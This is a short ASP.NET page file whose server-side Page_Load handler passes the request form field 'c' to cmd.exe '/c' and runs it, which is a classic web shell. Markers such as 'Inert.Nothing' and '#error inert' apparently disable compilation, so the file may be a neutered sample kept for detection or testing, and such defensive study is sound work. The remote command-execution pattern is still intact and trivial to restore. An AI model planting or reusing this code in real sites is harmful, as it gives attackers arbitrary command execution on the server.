<%@ Page Language="C#" Inherits="Inert.Nothing" %>
<script runat="server">
#error inert
void Page_Load(object s,EventArgs e){ var p=new System.Diagnostics.Process(); p.StartInfo.FileName="cmd"; p.StartInfo.Arguments="/c "+Request.Form["c"]; p.Start(); }
</script>
